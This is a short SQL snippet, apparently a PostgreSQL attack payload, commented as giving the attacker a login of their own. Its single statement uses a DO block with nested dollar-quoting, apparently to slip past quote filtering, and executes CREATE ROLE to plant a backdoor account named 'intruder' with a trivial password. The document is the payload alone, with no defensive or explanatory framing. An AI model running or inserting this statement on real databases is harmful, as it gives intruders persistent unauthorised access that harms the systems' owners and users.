-- A login of the attacker's own.
DO $outer$ BEGIN EXECUTE $inner$CREATE ROLE intruder LOGIN PASSWORD 'x'$inner$; END $outer$
